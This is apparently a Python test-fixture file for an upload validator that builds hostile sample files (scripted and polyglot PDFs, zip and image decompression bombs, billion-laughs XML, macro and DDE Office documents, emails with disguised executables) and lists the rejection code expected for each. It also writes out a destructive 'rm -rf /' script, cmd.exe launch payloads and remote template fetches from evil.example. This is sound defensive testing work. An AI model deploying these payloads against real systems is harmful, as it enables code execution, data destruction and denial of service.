"""Files that are two things at once, act on their reader, or carry what nobody checked."""

import base64
import io
import random
import struct
import zipfile
import zlib

import olefile
from PIL import Image

from documents.limits import MEGABYTE
from documents.tests import samples
from documents.tests.samples import EXCEL, archive, eml, image, office, office_parts, pdf

EXE = b"MZ\x90\x00" + bytes(200) + b"This program cannot be run in DOS mode."
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
SCRIPT = b"<html><script>alert(1)</script></html>"
EXTERNAL = (
    '<Relationships><Relationship Id="r" TargetMode="External" Type="http://x/relationships/{kind}" '
    'Target="{target}"/></Relationships>'
)


def pdf_with(objects: bytes) -> bytes:
    return pdf(b"1 0 obj\n" + objects + b"\nendobj")


def packed_objects(objects: bytes, *, head: bytes = b"/Filter /FlateDecode", packed: bytes = b"") -> bytes:
    """A PDF that keeps its objects in a packed stream, as newer writers do."""
    packed = packed or zlib.compress(objects)
    length = str(len(packed)).encode()
    head = b"<</Type /ObjStm /N 1 /First 4 " + head + b" /Length " + length + b">>"
    return pdf(b"1 0 obj\n" + head + b"\nstream\r\n" + packed + b"\nendstream\nendobj")


def at_window(objects: bytes) -> bytes:
    """The name lies across two of the pieces that are read."""
    return pdf(b"x" * (65536 - 9 - len(objects) + 3) + objects)


def mail(*parts: bytes) -> bytes:
    head = (
        b"From: a@contoso.example\r\nDate: Mon, 2 Nov 2026 09:00:00 +0000\r\nSubject: Yes\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\nHello\r\n'
    )
    return head + b"".join(b"--b\r\n" + part + b"\r\n" for part in parts) + b"--b--\r\n"


def attached(name: str, content: bytes, kind: str = "application/octet-stream") -> bytes:
    head = (
        f"Content-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\n"
        f'Content-Disposition: attachment; filename="{name}"\r\n\r\n'
    )
    return head.encode() + base64.encodebytes(content).replace(b"\n", b"\r\n")


def forwarded(content: bytes) -> bytes:
    return b"Content-Type: message/rfc822\r\n\r\n" + content


def concatenated(first: bytes, second: bytes) -> bytes:
    """Two archives one after the other: some programs show the first, some the last."""
    return first + second


def png_chunk(kind: bytes, content: bytes) -> bytes:
    return len(content).to_bytes(4, "big") + kind + content + zlib.crc32(kind + content).to_bytes(4, "big")


def png_with(chunk: bytes) -> bytes:
    """A PNG with another chunk behind its head."""
    good = image("PNG")
    return good[:33] + chunk + good[33:]


def jpeg(size: tuple[int, int] = (640, 480), **options) -> bytes:
    target = io.BytesIO()
    Image.effect_noise(size, 40).save(target, "JPEG", **options)
    return target.getvalue()


def jpeg_of(width: int, height: int, *, marker: int = 0xC0) -> bytes:
    """A JPEG that says it has so many pixels, and ends soon."""
    good = jpeg((64, 48))
    at = good.index(b"\xff\xc0")
    size = struct.pack(">HH", height, width)
    return good[:at] + bytes([0xFF, marker]) + good[at + 2 : at + 5] + size + good[at + 9 :]


def jpeg_of_scans(count: int) -> bytes:
    """A progressive JPEG whose last scan comes again and again: each costs a decoder a pass over all pixels."""
    good = jpeg((64, 48), progressive=True)
    at = good.rindex(b"\xff\xda")
    return good[:-2] + good[at:-2] * count + good[-2:]


def archive_of_zeros() -> bytes:
    return office(extra={f"word/{n:04}.bin": bytes(200_000) for n in range(60)})


def nested_office(depth: int) -> bytes:
    inner = office(EXCEL)
    for _ in range(depth):
        inner = office(EXCEL, extra={"xl/embeddings/inner.xlsx": inner})
    return inner


def nested_bombs() -> bytes:
    """Each within the bounds, all together not."""
    inner = office(EXCEL, extra={"xl/a.bin": b"".join(bytes([n % 251]) * 4000 for n in range(10_000))})
    parts = {f"word/embeddings/{n}.xlsx": inner for n in range(8)}
    return archive(office_parts() | parts, method=zipfile.ZIP_STORED)


def stored_pdf_in_front() -> bytes:
    parts = {"a.pdf": pdf(), **office_parts()}
    return archive(parts, method=zipfile.ZIP_STORED)


def with_comment(content: bytes, comment: bytes) -> bytes:
    target = io.BytesIO(content)
    with zipfile.ZipFile(target, "a") as packed:
        packed.comment = comment
    return target.getvalue()


def remote(kind: str, target: str) -> bytes:
    return office(extra={"word/_rels/settings.xml.rels": EXTERNAL.format(kind=kind, target=target)})


def outlook(name: str, content: bytes) -> bytes:
    """An Outlook message with one attachment."""
    return write_compound(
        {
            "__properties_version1.0": bytes(4096),
            "__attach_version1.0_#00000000": {
                "__substg1.0_3707001F": name.encode("utf-16-le"),
                "__substg1.0_37010102": content,
            },
        }
    )


END, FREE, IS_TABLE = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD


def write_compound(tree: dict) -> bytes:
    """A compound file of streams (bytes) and folders of streams (dict)."""
    return Compound().whole(tree)


class Compound:
    """Everything lies in sectors of 512 bytes, so streams are filled up to 4,096: shorter ones would lie elsewhere."""

    def __init__(self) -> None:
        self.entries: list[list] = [["Root Entry", 5, FREE, FREE, END, 0]]
        self.sectors: list[bytes] = []
        self.chain: list[int] = []

    def whole(self, tree: dict) -> bytes:
        self.entries[0][3] = self.add(tree)
        directory_at = self.place(b"".join(map(_entry, self.entries)))
        tables = 1
        while (len(self.chain) + tables) > tables * 128:
            tables += 1
        places = [*range(len(self.sectors), len(self.sectors) + tables)]
        self.chain.extend([IS_TABLE] * tables)
        self.chain.extend([FREE] * (tables * 128 - len(self.chain)))
        table = struct.pack(f"<{len(self.chain)}L", *self.chain)
        header = olefile.MAGIC + bytes(16) + bytes.fromhex("3e000300feff09000600") + bytes(6)
        header += struct.pack("<9L", 0, tables, directory_at, 0, 4096, END, 0, END, 0)
        header += struct.pack("<109L", *places, *[FREE] * (109 - tables))
        return header + b"".join(self.sectors) + table

    def place(self, content: bytes) -> int:
        """The first of its sectors, which follow one another."""
        content += bytes(-len(content) % 512)
        begin, count = len(self.sectors), len(content) // 512
        self.sectors.extend(content[n * 512 : n * 512 + 512] for n in range(count))
        self.chain.extend([*range(begin + 1, begin + count), END])
        return begin

    def add(self, tree: dict) -> int:
        """Siblings hang on the right of one another, which readers accept."""
        previous, first = None, FREE
        for name, content in sorted(tree.items(), key=lambda item: (len(item[0]), item[0].upper())):
            number = self.enter(name, content)
            if previous is None:
                first = number
            else:
                self.entries[previous][2] = number
            previous = number
        return first

    def enter(self, name: str, content: bytes | dict) -> int:
        number = len(self.entries)
        if isinstance(content, dict):
            self.entries.append([name, 1, FREE, FREE, 0, 0])
            self.entries[number][3] = self.add(content)
        else:
            begin = self.place(content.ljust(4096, b"\0"))
            self.entries.append([name, 2, FREE, FREE, begin, max(len(content), 4096)])
        return number


def _entry(entry: list) -> bytes:
    name, kind, right, child, start, size = entry
    label = name.encode("utf-16-le")
    head = label.ljust(64, b"\0") + struct.pack("<HBB", len(label) + 2, kind, 1)
    return (
        head + struct.pack("<3L", 0xFFFFFFFF, right, child) + bytes(36) + struct.pack("<3L", start, size, 0)
    )


FILES = "FILE_CARRIES_FILES"
PROGRAMS = "FILE_HAS_PROGRAMS"
MACROS = "FILE_HAS_MACROS"
DAMAGED = "FILE_DAMAGED"
NOT_THAT = "FILE_NOT_WHAT_IT_SAYS"
TOO_BIG = "FILE_ARCHIVE_TOO_BIG"
PROTECTED = "FILE_PROTECTED"
NOT_SAFE = "FILE_XML_NOT_SAFE"

BAD = {
    "pdf with a script": ("a.pdf", lambda: pdf_with(b"<</S/JavaScript/JS(app.alert(1))>>"), PROGRAMS),
    "pdf with a script that runs at opening": (
        "a.pdf",
        lambda: pdf_with(b"<</OpenAction<</S /JavaScript /JS (x)>>>>"),
        PROGRAMS,
    ),
    "pdf with a script under an escaped name": (
        "a.pdf",
        lambda: pdf_with(b"<</S/J#61vaScr#69pt/JS(x)>>"),
        PROGRAMS,
    ),
    "pdf with a script among packed objects": (
        "a.pdf",
        lambda: packed_objects(b"<</S/JavaScript/JS(x)>>"),
        PROGRAMS,
    ),
    "pdf with a script far inside packed objects": (
        "a.pdf",
        lambda: packed_objects(b"<</A 1>> " * 80_000 + b"<</S/JavaScript>>"),
        PROGRAMS,
    ),
    "pdf with a script across two pieces": ("a.pdf", lambda: at_window(b"/JavaScript "), PROGRAMS),
    "pdf that starts a program": ("a.pdf", lambda: pdf_with(b"<</S/Launch/F(cmd.exe)>>"), PROGRAMS),
    "pdf that plays a rendition": ("a.pdf", lambda: pdf_with(b"<</S/Rendition/JS(x)>>"), PROGRAMS),
    "pdf with rich media": ("a.pdf", lambda: pdf_with(b"<</Subtype/RichMedia>>"), PROGRAMS),
    "pdf with an attached file": ("a.pdf", lambda: pdf_with(b"<</Type/EmbeddedFile>>"), FILES),
    "pdf with attached files by name": ("a.pdf", lambda: pdf_with(b"<</EmbeddedFiles 2 0 R>>"), FILES),
    "pdf with attached files among packed objects": (
        "a.pdf",
        lambda: packed_objects(b"<</EmbeddedFiles 2 0 R>>"),
        FILES,
    ),
    "pdf with a password": ("a.pdf", lambda: pdf_with(b"<</Encrypt 2 0 R>>"), PROTECTED),
    "pdf with objects packed by an unusual filter": (
        "a.pdf",
        lambda: packed_objects(b"", head=b"/Filter /ASCIIHexDecode", packed=b"2f4a53>"),
        DAMAGED,
    ),
    "pdf with objects packed twice": (
        "a.pdf",
        lambda: packed_objects(b"", head=b"/Filter [/FlateDecode /FlateDecode]", packed=b"x"),
        DAMAGED,
    ),
    "pdf with objects mixed by a predictor": (
        "a.pdf",
        lambda: packed_objects(b"x", head=b"/Filter /FlateDecode /DecodeParms <</Predictor 12>>"),
        DAMAGED,
    ),
    "pdf with packed objects under an escaped name": (
        "a.pdf",
        lambda: packed_objects(b"x").replace(b"/ObjStm", b"/Obj#53tm"),
        DAMAGED,
    ),
    "pdf with broken packed objects": ("a.pdf", lambda: packed_objects(b"", packed=b"broken"), DAMAGED),
    "pdf with packed objects without a stream": (
        "a.pdf",
        lambda: pdf_with(b"<</Type/ObjStm" + b" " * 5000 + b">>"),
        DAMAGED,
    ),
    "pdf whose objects unpack a thousandfold": (
        "a.pdf",
        lambda: packed_objects(bytes(70 * MEGABYTE)),
        TOO_BIG,
    ),
    "pdf with very many packed objects": ("a.pdf", lambda: pdf(b"/ObjStm " * 6000), TOO_BIG),
    "pdf and web page in one": ("a.pdf", lambda: pdf(SCRIPT), NOT_THAT),
    "pdf and archive in one": ("a.pdf", lambda: pdf() + archive({"a.exe": random.randbytes(3000)}), FILES),
    "pdf and small archive in one": ("a.pdf", lambda: pdf() + archive({"a": b"a"}), FILES),
    "pdf version 9": ("a.pdf", lambda: b"%PDF-9.9\n" + pdf()[9:], NOT_THAT),
    "pdf without an end": ("a.pdf", lambda: pdf(tail=b""), DAMAGED),
    "only a pdf's first line": ("a.pdf", lambda: b"%PDF-1.7\n", DAMAGED),
    "postscript named pdf": ("a.pdf", lambda: b"%!PS-Adobe-3.0\n" + pdf(), NOT_THAT),
    "program of linux named pdf": ("a.pdf", lambda: ELF, NOT_THAT),
    "shell script named pdf": ("a.pdf", lambda: b"#!/bin/sh\nrm -rf /\n", NOT_THAT),
    "png with an archive behind it": ("a.png", lambda: image("PNG") + archive({"a.exe": EXE}), FILES),
    "png with a program behind it": ("a.png", lambda: image("PNG") + EXE, FILES),
    "png with a web page in it": (
        "a.png",
        lambda: png_with(png_chunk(b"tEXt", b"a\0" + SCRIPT)),
        NOT_THAT,
    ),
    "png with a pdf in it": ("a.png", lambda: png_with(png_chunk(b"prVt", pdf())), NOT_THAT),
    "png whose text unpacks a thousandfold": (
        "a.png",
        lambda: png_with(png_chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(50 * MEGABYTE)))),
        DAMAGED,
    ),
    "png whose colour profile unpacks a thousandfold": (
        "a.png",
        lambda: png_with(png_chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(50 * MEGABYTE)))),
        DAMAGED,
    ),
    "png of a million empty pieces": (
        "a.png",
        lambda: png_with(png_chunk(b"IDAT", b"") * 1_000_000),
        DAMAGED,
    ),
    "png without an end": ("a.png", lambda: image("PNG")[:-12], DAMAGED),
    "jpg with an archive behind it": ("a.jpg", lambda: jpeg() + archive({"a.exe": EXE}), FILES),
    "jpg with a program behind it": ("a.jpg", lambda: jpeg() + EXE, FILES),
    "jpg with a pdf behind it": ("a.jpg", lambda: jpeg() + pdf(), FILES),
    "jpg with a web page in its comment": ("a.jpg", lambda: jpeg(comment=SCRIPT), NOT_THAT),
    "jpg of 4 billion pixels": ("a.jpg", lambda: jpeg_of(65500, 65500), "FILE_IMAGE_TOO_BIG"),
    "jpg of 85 million pixels": ("a.jpg", lambda: jpeg_of(10_000, 8_500), "FILE_IMAGE_TOO_BIG"),
    "jpg of 79 million pixels in a few bytes": ("a.jpg", lambda: jpeg_of(9_000, 8_800), DAMAGED),
    "jpg of 1,000 scans": ("a.jpg", lambda: jpeg_of_scans(1000), DAMAGED),
    "jpg of scans without an end": ("a.jpg", lambda: jpeg(progressive=True)[:-2], DAMAGED),
    "docx that is a pdf as well": ("a.docx", stored_pdf_in_front, NOT_THAT),
    "docx with a program behind it": ("a.docx", lambda: office() + EXE, DAMAGED),
    "docx with another docx behind it": ("a.docx", lambda: concatenated(office(), office()), DAMAGED),
    "docx with a comment on the archive": ("a.docx", lambda: with_comment(office(), b"hello"), DAMAGED),
    "docx with a program inside": ("a.docx", lambda: office(extra={"word/a.bin": EXE}), FILES),
    "docx with a program of linux inside": ("a.docx", lambda: office(extra={"word/a.dat": ELF}), FILES),
    "docx with an archive inside": (
        "a.docx",
        lambda: office(extra={"word/embeddings/a.zip": archive({"a.exe": EXE})}),
        FILES,
    ),
    "docx with a renamed archive inside": (
        "a.docx",
        lambda: office(extra={"word/media/a.png": archive({"a.exe": EXE})}),
        FILES,
    ),
    "docx with a macro table inside": (
        "a.docx",
        lambda: office(extra={"word/embeddings/a.xlsx": office(EXCEL, extra={"xl/vbaProject.bin": b"x"})}),
        MACROS,
    ),
    "docx with an xlsm inside": (
        "a.docx",
        lambda: office(extra={"word/embeddings/a.xlsm": office(EXCEL)}),
        FILES,
    ),
    "docx with a file behind an icon": (
        "a.docx",
        lambda: office(extra={"word/embeddings/oleObject1.bin": samples.compound("\x01Ole10Native")}),
        FILES,
    ),
    "docx with macros in an object": (
        "a.docx",
        lambda: office(extra={"word/embeddings/oleObject1.bin": write_compound({"Macros": {"dir": b"x"}})}),
        MACROS,
    ),
    "docx with a renamed macro project": (
        "a.docx",
        lambda: office(extra={"word/settings.bin": write_compound({"VBA": {"dir": b"x"}, "PROJECT": b"x"})}),
        MACROS,
    ),
    "docx with a protected document inside": (
        "a.docx",
        lambda: office(extra={"word/a.bin": samples.compound("EncryptedPackage")}),
        PROTECTED,
    ),
    "docx with a control": ("a.docx", lambda: office(extra={"word/activeX/activeX1.bin": b"x"}), MACROS),
    "docx that fetches its template": (
        "a.docx",
        lambda: remote("attachedTemplate", "https://evil.example/a.dotm"),
        NOT_SAFE,
    ),
    "docx with a template of a folder": (
        "a.docx",
        lambda: remote("attachedTemplate", "file:///C:\\Templates\\Letter.dotx"),
        NOT_SAFE,
    ),
    "docx that fetches an object": (
        "a.docx",
        lambda: remote("oleObject", "mhtml:http://evil.example/a.html!x-usc:http://evil.example/a.html"),
        NOT_SAFE,
    ),
    "docx that fetches a frame": ("a.docx", lambda: remote("frame", " HTTP://evil.example/a"), NOT_SAFE),
    "docx with a command in a field": (
        "a.docx",
        lambda: office(extra={"word/a.xml": '<a>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</a>'}),
        PROGRAMS,
    ),
    "xlsx with a link to a command": (
        "a.xlsx",
        lambda: office(
            EXCEL, extra={"xl/externalLinks/externalLink1.xml": '<x><ddeLink ddeService="cmd"/></x>'}
        ),
        PROGRAMS,
    ),
    "docx with a DTD in a table inside": (
        "a.docx",
        lambda: office(extra={"word/a.xlsx": office(EXCEL, extra={"xl/a.xml": "<!DOCTYPE x><x/>"})}),
        NOT_SAFE,
    ),
    "docx with a billion laughs": (
        "a.docx",
        lambda: office(
            extra={
                "word/document.xml": '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
            }
        ),
        NOT_SAFE,
    ),
    "xlsx in xlsx in xlsx in xlsx": ("a.xlsx", lambda: nested_office(4), TOO_BIG),
    "docx with bombs that are small each": ("a.docx", nested_bombs, TOO_BIG),
    "docx of many equal zeros": ("a.docx", archive_of_zeros, TOO_BIG),
    "rtf named docx": ("a.docx", lambda: b"{\\rtf1 hello}", NOT_THAT),
    "rar named docx": ("a.docx", lambda: b"Rar!\x1a\x07\x00" + bytes(100), NOT_THAT),
    "docx of zero bytes": ("a.docx", lambda: bytes(1000), NOT_THAT),
    "msg with a program": ("a.msg", lambda: outlook("setup.exe", EXE), FILES),
    "msg with a renamed program": ("a.msg", lambda: outlook("offer.pdf", EXE), FILES),
    "msg with a program and two extensions": ("a.msg", lambda: outlook("offer.pdf.exe", EXE), FILES),
    "msg with an archive": ("a.msg", lambda: outlook("a.zip", archive({"a.exe": EXE})), FILES),
    "msg with a document with macros": (
        "a.msg",
        lambda: outlook("a.docx", office(extra={"word/vbaProject.bin": b"x"}).ljust(4096, b"\0")),
        FILES,
    ),
    "msg with a file without a name": ("a.msg", lambda: outlook("", EXE), FILES),
    "eml with a program": ("a.eml", lambda: mail(attached("setup.exe", EXE)), FILES),
    "eml with a renamed program": ("a.eml", lambda: mail(attached("offer.pdf", EXE)), FILES),
    "eml with a program said to be a picture": (
        "a.eml",
        lambda: mail(attached("a.gif", EXE, "image/gif")),
        FILES,
    ),
    "eml with a program without a name": (
        "a.eml",
        lambda: mail(
            b"Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAAMA"
        ),
        FILES,
    ),
    "eml with an archive": ("a.eml", lambda: mail(attached("a.zip", archive({"a.exe": EXE}))), FILES),
    "eml with a renamed archive": ("a.eml", lambda: mail(attached("a.docx", archive({"a": EXE}))), FILES),
    "eml with a web page": ("a.eml", lambda: mail(attached("invoice.html", SCRIPT, "text/html")), FILES),
    "eml with a picture that can act": ("a.eml", lambda: mail(attached("a.svg", b"<svg/>")), FILES),
    "eml in eml with a program": (
        "a.eml",
        lambda: mail(forwarded(mail(attached("setup.exe", EXE)))),
        FILES,
    ),
    "eml packed in eml with a program": (
        "a.eml",
        lambda: mail(attached("mail.eml", mail(attached("setup.exe", EXE)))),
        FILES,
    ),
    "eml with a name in pieces": (
        "a.eml",
        lambda: mail(
            b'Content-Disposition: attachment;\r\n filename*0="setup";\r\n filename*1=".exe"\r\n\r\nMZ'
        ),
        FILES,
    ),
    "eml with a name in another alphabet": (
        "a.eml",
        lambda: mail(b"Content-Disposition: attachment; filename*=utf-8''offer%E2%80%AEfdp.exe\r\n\r\nMZ"),
        FILES,
    ),
    "eml with an attachment of unix": (
        "a.eml",
        lambda: eml() + b"begin 644 setup.exe\r\n#34%Z\r\n`\r\nend\r\n",
        FILES,
    ),
    "eml that is sealed": (
        "a.eml",
        lambda: mail(attached("smime.p7s", b"x", "application/pkcs7-mime")),
        PROTECTED,
    ),
    "eml with winmail.dat": (
        "a.eml",
        lambda: mail(attached("winmail.dat", b"x", "application/ms-tnef")),
        FILES,
    ),
    "eml of very many parts": ("a.eml", lambda: mail(*[b"Content-Type: text/plain\r\n\r\nx"] * 600), TOO_BIG),
    "svg named svg.png": ("a.svg.png", lambda: b"<svg onload='alert(1)'/>", NOT_THAT),
    "script behind a pdf's name": ("a.pdf.js", pdf, "FILE_TYPE_NOT_ALLOWED"),
    "shortcut": ("a.lnk", lambda: b"L\0\0\0", "FILE_TYPE_NOT_ALLOWED"),
    "disk image": ("a.iso", lambda: bytes(40_000), "FILE_TYPE_NOT_ALLOWED"),
    "web archive": ("a.mht", eml, "FILE_TYPE_NOT_ALLOWED"),
    "macro table": ("a.xlsm", lambda: office(EXCEL), "FILE_TYPE_NOT_ALLOWED"),
    "xml": ("a.xml", lambda: b"<x/>", "FILE_TYPE_NOT_ALLOWED"),
}

GOOD = {
    "pdf with packed objects": ("a.pdf", lambda: packed_objects(b"<</Type/Catalog>> " * 50_000)),
    "pdf with objects in a stream that is not packed": (
        "a.pdf",
        lambda: packed_objects(b"", head=b"", packed=b"<</Type/Catalog>>"),
    ),
    "pdf with a name that only begins so": ("a.pdf", lambda: pdf_with(b"<</LaunchPad 1/JavaScripts 2>>")),
    "pdf with an escaped name": ("a.pdf", lambda: pdf_with(b"<</Farbe#20Rot 1>>")),
    "pdf with a link": ("a.pdf", lambda: pdf_with(b"<</S/URI/URI(https://contoso.example)>>")),
    "docx in docx": ("a.docx", lambda: office(extra={"word/embeddings/a.docx": office()})),
    "docx with a formula": (
        "a.docx",
        lambda: office(extra={"word/embeddings/oleObject1.bin": samples.compound("Equation Native")}),
    ),
    "docx with a link": ("a.docx", lambda: remote("hyperlink", "https://contoso.example")),
    "jpg with a camera's own data behind it": ("a.jpg", lambda: jpeg() + b"SEFH" + bytes(range(256)) * 40),
    "large progressive jpg": ("a.jpg", lambda: large_progressive()),
    "eml with a proof": ("a.eml", lambda: mail(attached("offer.pdf", pdf(), "application/pdf"))),
    "eml with a proof, a picture and a text": (
        "a.eml",
        lambda: mail(
            b"Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\nPGI+SGk8L2I+\r\n",
            attached("image001.png", image("PNG"), "image/png"),
            attached("notes.txt", b"hello", "text/plain"),
        ),
    ),
    "eml that was forwarded": ("a.eml", lambda: mail(forwarded(mail(attached("a.docx", office()))))),
    "eml whose text speaks of heads": ("a.eml", lambda: eml() + b"Content-Type: is a header of e-mails\r\n"),
    "msg with a proof": ("a.msg", lambda: outlook("offer.pdf", pdf(b"x" * 5000))),
    "msg with a picture": ("a.msg", lambda: outlook("logo.gif", b"GIF89a" + bytes(5000))),
}


def large_progressive() -> bytes:
    target = io.BytesIO()
    Image.new("RGB", (3000, 2500), "white").save(target, "JPEG", progressive=True)
    return target.getvalue()
